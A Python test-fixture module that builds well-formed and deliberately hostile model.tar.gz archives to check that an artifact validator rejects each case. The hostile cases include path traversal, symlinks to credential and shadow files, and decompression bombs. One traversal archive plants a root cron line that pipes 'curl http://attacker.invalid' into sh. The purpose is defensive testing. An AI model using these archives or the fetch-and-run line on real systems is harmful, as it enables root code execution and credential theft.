"""Build good and hostile ``model.tar.gz`` artifacts in memory.

Used by unit tests, integration tests and the local demo sandbox.  Every
builder is deterministic (fixed mtime/uid/gid/owner names, gzip mtime 0) so the
same call returns identical bytes.

* :func:`good_artifact` - a tiny realistic model artifact.
* :data:`GOOD_ARTIFACTS` - valid variants (``./``-prefixed, GNU/ustar formats,
  pax unicode names, multi-member gzip, gzip NUL padding).
* :data:`BAD_ARTIFACTS` - ``case -> (expected reason code, builder)``.  Every
  case is rejected with that reason when validated with :data:`TEST_LIMITS`.
* :func:`bomb_artifact` - a member of zeros streamed through zlib.
* :func:`iter_streamed_artifact` / :class:`IteratorReader` - a large artifact
  produced incrementally (never held in memory), for memory tests and benchmarks.
"""

from __future__ import annotations

import gzip
import io
import random
import tarfile
import zlib
from collections.abc import Callable, Iterable, Iterator

from modelrelay.artifact import ArtifactLimits

__all__ = [
    "BAD_ARTIFACTS",
    "DEFAULT_FILES",
    "GOOD_ARTIFACTS",
    "TEST_LIMITS",
    "IteratorReader",
    "bomb_artifact",
    "good_artifact",
    "gzip_bytes",
    "iter_streamed_artifact",
    "malicious_traversal_artifact",
    "tar_bytes",
    "tar_entry",
]

KiB = 1024
MiB = 1024 * KiB
FIXED_MTIME = 1_700_000_000  # 2023-11-14T22:13:20Z

#: Small limits under which every :data:`BAD_ARTIFACTS` case hits its reason quickly.
TEST_LIMITS = ArtifactLimits(
    max_object_bytes=256 * KiB,
    max_uncompressed_bytes=4 * MiB,
    max_compression_ratio=50.0,
    max_members=64,
    max_member_name_bytes=1024,
    ratio_check_threshold_bytes=512 * KiB,
)

_INFERENCE_PY = b'''"""SageMaker-style inference handlers for the demo model."""
import json

import joblib


def model_fn(model_dir):
    return joblib.load(f"{model_dir}/model.joblib")


def input_fn(body, content_type):
    return json.loads(body)["instances"]


def predict_fn(data, model):
    return model.predict(data).tolist()
'''

#: Files of the default :func:`good_artifact` (a ``code/`` directory entry is added too).
DEFAULT_FILES: dict[str, bytes] = {
    "model.joblib": random.Random(20240601).randbytes(4096),
    "code/inference.py": _INFERENCE_PY,
    "code/requirements.txt": b"scikit-learn==1.5.2\njoblib==1.4.2\n",
    "metadata.json": b'{"framework": "sklearn", "model_name": "churn-classifier", "version": "1.4.0"}\n',
}


# --------------------------------------------------------------------------- low-level helpers


def tar_entry(
    name: str,
    data: bytes = b"",
    *,
    kind: bytes = tarfile.REGTYPE,
    linkname: str = "",
    mode: int | None = None,
    pax_headers: dict[str, str] | None = None,
) -> tuple[tarfile.TarInfo, bytes]:
    """A deterministic ``TarInfo`` (+ data for regular files)."""
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mtime = FIXED_MTIME
    info.uid = info.gid = 1000
    info.uname = info.gname = "model"
    info.linkname = linkname
    is_dir = kind == tarfile.DIRTYPE
    info.mode = mode if mode is not None else (0o755 if is_dir else 0o644)
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    if kind in tarfile.REGULAR_TYPES:
        info.size = len(data)
    if pax_headers:
        info.pax_headers = dict(pax_headers)
    return info, data


def tar_bytes(
    entries: Iterable[tuple[tarfile.TarInfo, bytes]],
    *,
    tar_format: int = tarfile.PAX_FORMAT,
) -> bytes:
    """Uncompressed tar of ``entries`` (names may carry surrogate-escaped raw bytes)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tar_format, encoding="utf-8", errors="surrogateescape") as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buf.getvalue()


def gzip_bytes(data: bytes, level: int = 9) -> bytes:
    """Deterministic gzip (header mtime 0)."""
    return gzip.compress(data, compresslevel=level, mtime=0)


def _files(files: dict[str, bytes]) -> list[tuple[tarfile.TarInfo, bytes]]:
    return [tar_entry(name, data) for name, data in files.items()]


def _default_entries(prefix: str = "") -> list[tuple[tarfile.TarInfo, bytes]]:
    entries = [tar_entry(f"{prefix}code", kind=tarfile.DIRTYPE)]
    entries += [tar_entry(prefix + name, data) for name, data in DEFAULT_FILES.items()]
    return entries


def _with_model(*extra: tuple[tarfile.TarInfo, bytes], tar_format: int = tarfile.PAX_FORMAT) -> bytes:
    """A gzipped tar holding ``model.joblib`` followed by ``extra`` entries."""
    return gzip_bytes(
        tar_bytes([tar_entry("model.joblib", DEFAULT_FILES["model.joblib"]), *extra], tar_format=tar_format)
    )


# --------------------------------------------------------------------------- good artifacts


def good_artifact(files: dict[str, bytes] | None = None) -> bytes:
    """A valid tar.gz.

    Without ``files``: a tiny sklearn-style model (``model.joblib``,
    ``code/inference.py``, ``code/requirements.txt``, ``metadata.json`` plus a
    ``code`` directory entry: 5 members).  With ``files``: exactly those
    regular files, in order, and no directory entries.
    """
    entries = _default_entries() if files is None else _files(files)
    return gzip_bytes(tar_bytes(entries))


def _dot_prefixed() -> bytes:
    """What ``tar -C model_dir -czf model.tar.gz .`` produces."""
    return gzip_bytes(tar_bytes([tar_entry(".", kind=tarfile.DIRTYPE), *_default_entries("./")]))


def _multi_member_gzip() -> bytes:
    raw = tar_bytes(_default_entries())
    third = len(raw) // 3
    return b"".join(gzip_bytes(part) for part in (raw[:third], raw[third : 2 * third], raw[2 * third :]))


GOOD_ARTIFACTS: dict[str, Callable[[], bytes]] = {
    "default": good_artifact,
    "dot_prefixed": _dot_prefixed,
    "gnu_format": lambda: gzip_bytes(tar_bytes(_default_entries(), tar_format=tarfile.GNU_FORMAT)),
    "ustar_format": lambda: gzip_bytes(tar_bytes(_default_entries(), tar_format=tarfile.USTAR_FORMAT)),
    "unicode_names": lambda: good_artifact({"modèle/数据.bin": b"\x00\x01", "código/inferência.py": b"pass\n"}),
    "long_name_within_limit": lambda: good_artifact({"d/" + "n" * 1000: b"x"}),
    "empty_file": lambda: good_artifact({"empty.txt": b""}),
    "multi_member_gzip": _multi_member_gzip,
    "gzip_nul_padding": lambda: good_artifact() + bytes(1024),
    "level1_gzip": lambda: gzip_bytes(tar_bytes(_default_entries()), level=1),
}


# --------------------------------------------------------------------------- bombs and streamed artifacts


def bomb_artifact(uncompressed_bytes: int, name: str = "weights.bin") -> bytes:
    """A tar.gz with one member of ``uncompressed_bytes`` zeros, compressed ~1000:1.

    The zeros are streamed through zlib 1 MiB at a time and never materialised.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    info, _ = tar_entry(name)
    info.size = uncompressed_bytes
    out = [compressor.compress(info.tobuf(format=tarfile.PAX_FORMAT))]
    zeros = bytes(MiB)
    remaining = uncompressed_bytes + (-uncompressed_bytes % 512) + 1024  # data, padding, end-of-archive
    while remaining:
        step = min(remaining, len(zeros))
        out.append(compressor.compress(zeros[:step] if step < len(zeros) else zeros))
        remaining -= step
    out.append(compressor.flush())
    return b"".join(out)


def _zeros_after_end_of_archive(zero_bytes: int) -> bytes:
    """A valid tiny archive followed (inside the gzip stream) by ``zero_bytes`` NULs."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    out = [compressor.compress(tar_bytes(_default_entries()))]
    zeros = bytes(MiB)
    remaining = zero_bytes
    while remaining:
        step = min(remaining, len(zeros))
        out.append(compressor.compress(zeros[:step] if step < len(zeros) else zeros))
        remaining -= step
    out.append(compressor.flush())
    return b"".join(out)


def iter_streamed_artifact(
    member_bytes: int,
    *,
    name: str = "model.bin",
    seed: int = 0,
    level: int = 1,
    block_bytes: int = MiB,
) -> Iterator[bytes]:
    """Yield a valid tar.gz with one member of ``member_bytes`` pseudo-random bytes, incrementally.

    Only one ``block_bytes`` block of data exists at a time; the data is
    incompressible, so the object is about as large as the member.
    """
    rng = random.Random(seed)
    compressor = zlib.compressobj(level, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    info, _ = tar_entry(name)
    info.size = member_bytes
    yield compressor.compress(info.tobuf(format=tarfile.PAX_FORMAT))
    remaining = member_bytes
    while remaining:
        step = min(block_bytes, remaining)
        remaining -= step
        chunk = compressor.compress(rng.randbytes(step))
        if chunk:
            yield chunk
    yield compressor.compress(bytes(-member_bytes % 512 + 1024))
    yield compressor.flush()


class IteratorReader:
    """Adapt an iterator of byte chunks to ``read(size)`` without buffering more than needed."""

    def __init__(self, chunks: Iterable[bytes]) -> None:
        self._chunks = iter(chunks)
        self._buf = bytearray()
        self.bytes_read = 0

    def read(self, size: int = -1, /) -> bytes:
        if size is None or size < 0:
            self._buf.extend(b"".join(self._chunks))
            size = len(self._buf)
        while len(self._buf) < size:
            chunk = next(self._chunks, None)
            if chunk is None:
                break
            self._buf.extend(chunk)
        data = bytes(self._buf[:size])
        del self._buf[:size]
        self.bytes_read += len(data)
        return data


# --------------------------------------------------------------------------- hostile artifacts


def malicious_traversal_artifact() -> bytes:
    """Looks like a model, but one member escapes the extraction directory (demo)."""
    return _with_model(
        tar_entry("code/inference.py", _INFERENCE_PY),
        tar_entry("../../../../etc/cron.d/modelrelay-pwned", b"* * * * * root curl http://attacker.invalid | sh\n"),
    )


def _not_gzip_plain_tar() -> bytes:
    return tar_bytes(_default_entries())


def _not_gzip_zip() -> bytes:
    return b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(64)


def _gzip_bad_header_method() -> bytes:
    data = bytearray(good_artifact())
    data[2] = 7  # compression method must be 8 (deflate)
    return bytes(data)


def _truncated_gzip() -> bytes:
    data = good_artifact()
    return data[: len(data) // 2]


def _gzip_crc_mismatch() -> bytes:
    data = bytearray(good_artifact())
    data[-8] ^= 0xFF  # first byte of the CRC32 trailer
    return bytes(data)


def _trailing_partial_gzip_member() -> bytes:
    return good_artifact() + good_artifact()[:20]


def _trailing_garbage() -> bytes:
    return good_artifact() + b"this is not gzip"


def _gzip_of_text() -> bytes:
    return gzip_bytes(b"this is a pickle, not a tar archive\n" * 64)


def _gzip_of_random_block() -> bytes:
    return gzip_bytes(random.Random(7).randbytes(2048))


def _empty_tar() -> bytes:
    return gzip_bytes(tar_bytes([]))


def _gzip_of_nothing() -> bytes:
    return gzip_bytes(b"")


def _hidden_member_after_end_of_archive() -> bytes:
    hidden = tar_bytes([tar_entry("../../evil.sh", b"#!/bin/sh\n")])
    return gzip_bytes(tar_bytes(_default_entries()) + hidden)


def _truncated_member_data() -> bytes:
    raw = tar_bytes(_default_entries())
    return gzip_bytes(raw[: 512 + 1000])  # code/ header + model.joblib header + part of its data


def _too_many_members() -> bytes:
    count = TEST_LIMITS.max_members + 1
    return good_artifact({f"shard-{i:04d}.bin": b"w" for i in range(count)})


def _oversized_object() -> bytes:
    data = random.Random(11).randbytes(TEST_LIMITS.max_object_bytes + 64 * KiB)
    return good_artifact({"weights.bin": data})


def _non_utf8_name(tar_format: int) -> Callable[[], bytes]:
    # "\udcff" is the surrogate escape of the raw byte 0xff.
    return lambda: _with_model(tar_entry("weights-\udcff.bin", b"w"), tar_format=tar_format)


def _gnu_sparse_pax() -> bytes:
    pax = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": "weights.bin",
        "GNU.sparse.realsize": "1048576",
    }
    return _with_model(tar_entry("GNUSparseFile.0/weights.bin", bytes(512), pax_headers=pax))


def _pax_global_path_override() -> bytes:
    entries = [tar_entry("model.joblib", b"m")]
    buf = io.BytesIO()
    with tarfile.open(
        fileobj=buf, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"path": "../../etc/passwd"}
    ) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data))
    return gzip_bytes(buf.getvalue())


BAD_ARTIFACTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # object / gzip layer
    "empty_object": ("object_empty", lambda: b""),
    "oversized_object": ("object_too_large", _oversized_object),
    "not_gzip_plain_tar": ("not_gzip", _not_gzip_plain_tar),
    "not_gzip_zip": ("not_gzip", _not_gzip_zip),
    "gzip_bad_compression_method": ("not_gzip", _gzip_bad_header_method),
    "trailing_garbage_after_gzip": ("not_gzip", _trailing_garbage),
    "truncated_gzip": ("truncated_gzip", _truncated_gzip),
    "gzip_crc_mismatch": ("truncated_gzip", _gzip_crc_mismatch),
    "trailing_partial_gzip_member": ("truncated_gzip", _trailing_partial_gzip_member),
    # tar layer
    "gzip_of_text": ("not_tar", _gzip_of_text),
    "gzip_of_random_block": ("not_tar", _gzip_of_random_block),
    "hidden_member_after_end_of_archive": ("not_tar", _hidden_member_after_end_of_archive),
    "truncated_member_data": ("not_tar", _truncated_member_data),
    "empty_tar": ("empty_tar", _empty_tar),
    "gzip_of_nothing": ("empty_tar", _gzip_of_nothing),
    # names
    "absolute_path": ("absolute_path", lambda: _with_model(tar_entry("/etc/passwd", b"root::0:0::/:/bin/sh\n"))),
    "absolute_windows_drive": (
        "absolute_path",
        lambda: _with_model(tar_entry("C:\\Windows\\System32\\evil.dll", b"MZ")),
    ),
    "absolute_unc_path": ("absolute_path", lambda: _with_model(tar_entry("\\\\attacker\\share\\evil.dll", b"MZ"))),
    "traversal_dotdot": ("path_traversal", lambda: _with_model(tar_entry("../../etc/passwd", b"x"))),
    "traversal_nested": ("path_traversal", lambda: _with_model(tar_entry("a/../../b", b"x"))),
    "traversal_backslash": ("path_traversal", lambda: _with_model(tar_entry("code\\..\\..\\evil.py", b"x"))),
    "malicious_traversal_demo": ("path_traversal", malicious_traversal_artifact),
    "duplicate_name": ("duplicate_member", lambda: _with_model(tar_entry("model.joblib", b"evil"))),
    "duplicate_normalised_name": ("duplicate_member", lambda: _with_model(tar_entry("./model.joblib/", b"evil"))),
    "long_name_pax": ("name_too_long", lambda: _with_model(tar_entry("w/" + "x" * 1100, b"w"))),
    "long_name_gnu": (
        "name_too_long",
        lambda: _with_model(tar_entry("w/" + "x" * 1100, b"w"), tar_format=tarfile.GNU_FORMAT),
    ),
    "name_not_utf8_gnu": ("name_not_utf8", _non_utf8_name(tarfile.GNU_FORMAT)),
    "name_not_utf8_pax_binary": ("name_not_utf8", _non_utf8_name(tarfile.PAX_FORMAT)),
    # member types
    "symlink_inside": (
        "symlink_member",
        lambda: _with_model(tar_entry("latest", kind=tarfile.SYMTYPE, linkname="model.joblib")),
    ),
    "symlink_outside": (
        "symlink_member",
        lambda: _with_model(tar_entry("creds", kind=tarfile.SYMTYPE, linkname="/root/.aws/credentials")),
    ),
    "hardlink_inside": (
        "hardlink_member",
        lambda: _with_model(tar_entry("copy.joblib", kind=tarfile.LNKTYPE, linkname="model.joblib")),
    ),
    "hardlink_outside": (
        "hardlink_member",
        lambda: _with_model(tar_entry("shadow", kind=tarfile.LNKTYPE, linkname="../../etc/shadow")),
    ),
    "char_device": ("device_member", lambda: _with_model(tar_entry("dev/null", kind=tarfile.CHRTYPE))),
    "block_device": ("device_member", lambda: _with_model(tar_entry("dev/sda", kind=tarfile.BLKTYPE))),
    "fifo": ("fifo_member", lambda: _with_model(tar_entry("pipe", kind=tarfile.FIFOTYPE))),
    "contiguous_file": (
        "unsupported_member",
        lambda: _with_model(tar_entry("contig.bin", b"c", kind=tarfile.CONTTYPE)),
    ),
    "gnu_sparse_header": (
        "unsupported_member",
        lambda: _with_model(tar_entry("sparse.bin", kind=tarfile.GNUTYPE_SPARSE), tar_format=tarfile.GNU_FORMAT),
    ),
    "gnu_sparse_pax": ("unsupported_member", _gnu_sparse_pax),
    "pax_global_path_override": ("unsupported_member", _pax_global_path_override),
    # size and count limits (relative to TEST_LIMITS)
    "bomb_declared_size": ("uncompressed_too_large", lambda: bomb_artifact(2 * TEST_LIMITS.max_uncompressed_bytes)),
    "bomb_ratio": ("compression_ratio_exceeded", lambda: bomb_artifact(TEST_LIMITS.max_uncompressed_bytes // 2)),
    "bomb_after_end_of_archive": ("compression_ratio_exceeded", lambda: _zeros_after_end_of_archive(2 * MiB)),
    "too_many_members": ("too_many_members", _too_many_members),
}


if __name__ == "__main__":
    # `python -m modelrelay_sandbox.artifact_factory [--malicious] > model.tar.gz`: a small artifact to drop.
    import sys

    sys.stdout.buffer.write(malicious_traversal_artifact() if "--malicious" in sys.argv else good_artifact())
